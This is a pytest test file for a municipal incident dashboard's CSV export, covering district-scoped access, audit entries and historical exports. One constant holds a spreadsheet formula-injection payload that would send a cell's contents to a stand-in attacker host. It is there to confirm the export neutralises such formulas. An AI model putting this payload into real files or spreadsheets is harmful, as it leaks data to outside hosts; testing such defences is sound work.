"""Exports: the open incidents of an area as CSV, in scope, safe for spreadsheets (-k exp)."""

from __future__ import annotations

import csv
import io
import time

import pytest

from dashboard.app import create_app
from dashboard.auth.users import UserStore
from dashboard.export import COLUMNS
from dashboard.pipeline.worker import Worker
from tests.events import PUDONG_POINT, incident, now_ms

SECRET = "export-secret-" + "y" * 40
PASSWORD = "correct horse battery"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture
def app(settings, client, geography):
    store = UserStore(client, settings.state_prefix, geography)
    store.add("xuhui", "district", PASSWORD, "310104")
    store.add("boss", "city", PASSWORD)
    store.add("wall1", "wall", None)
    client.xadd(settings.stream, incident("X1", title="井盖缺失 <b>徐家汇</b>", severity="4"))
    client.xadd(settings.stream, incident("X2", title=FORMULA, sla_minutes="1",
                                          ts=now_ms(-3600)))
    client.xadd(settings.stream, incident("P1", point=PUDONG_POINT, title="浦东的事"))
    Worker(settings, client, geography, name="w").work(burst=True)
    return create_app(settings.replace(secret_key=SECRET)).server


def signed_in(app, name: str):
    http = app.test_client()
    assert http.post("/login", data={"name": name, "password": PASSWORD}).status_code == 302
    return http


def rows(response) -> list[dict[str, str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")  # spreadsheet programs then read the Chinese as UTF-8
    table = list(csv.DictReader(io.StringIO(text[1:])))
    assert table == [] or tuple(table[0]) == COLUMNS
    return table


def test_exp001_official_exports_their_district_only(app):
    http = signed_in(app, "xuhui")
    response = http.get("/api/v1/export/incidents.csv")  # their own area by default
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert 'filename="incidents-310104-' in response.headers["Content-Disposition"]
    table = rows(response)
    assert sorted(r["incident_id"] for r in table) == ["X1", "X2"]
    assert all(r["area_id"].startswith("310104") for r in table)
    first = table[0]  # most severe first
    assert first["incident_id"] == "X1" and first["severity"] == "4"
    assert first["title"] == "井盖缺失 <b>徐家汇</b>" and first["category_name"] == "垃圾"
    late = next(r for r in table if r["incident_id"] == "X2")
    assert late["overdue"] == "1" and float(late["minutes_late"]) > 50
    assert "浦东" not in response.get_data(as_text=True)
    assert http.get("/api/v1/export/incidents.csv?area_id=310115").status_code == 403
    assert http.get("/api/v1/export/incidents.csv?area_id=nowhere").status_code == 404
    assert app.test_client().get("/api/v1/export/incidents.csv").status_code == 401
    audit = signed_in(app, "boss").get("/api/v1/audit").get_json()
    assert any(e["action"] == "export" and e["user"] == "xuhui" and e["target"] == "310104"
               for e in audit)
    assert any(e["action"] == "denied" and e["target"] == "310115" for e in audit)


def test_exp002_cells_never_run_as_formulas(app):
    table = rows(signed_in(app, "boss").get("/api/v1/export/incidents.csv?area_id=310000"))
    assert sorted(r["incident_id"] for r in table) == ["P1", "X1", "X2"]
    title = next(r["title"] for r in table if r["incident_id"] == "X2")
    assert title == "'" + FORMULA  # text in the spreadsheet, not a link that runs
    english = signed_in(app, "boss").get("/api/v1/export/incidents.csv?lang=en")
    assert {r["category_name"] for r in rows(english)} == {"Garbage"}


def test_exp003_export_of_a_past_moment(app, settings, client, geography):
    http = signed_in(app, "xuhui")
    time.sleep(0.01)  # the close arrives (stream ids are arrival times) after the reports
    closed = client.xadd(settings.stream, incident("X1", status="closed", point=None))
    Worker(settings, client, geography, name="w").work(burst=True)
    live = rows(http.get("/api/v1/export/incidents.csv"))
    assert [r["incident_id"] for r in live] == ["X2"]
    just_before = int(closed.decode().split("-")[0]) - 1
    before = rows(http.get(f"/api/v1/export/incidents.csv?at={just_before}"))
    assert sorted(r["incident_id"] for r in before) == ["X1", "X2"]
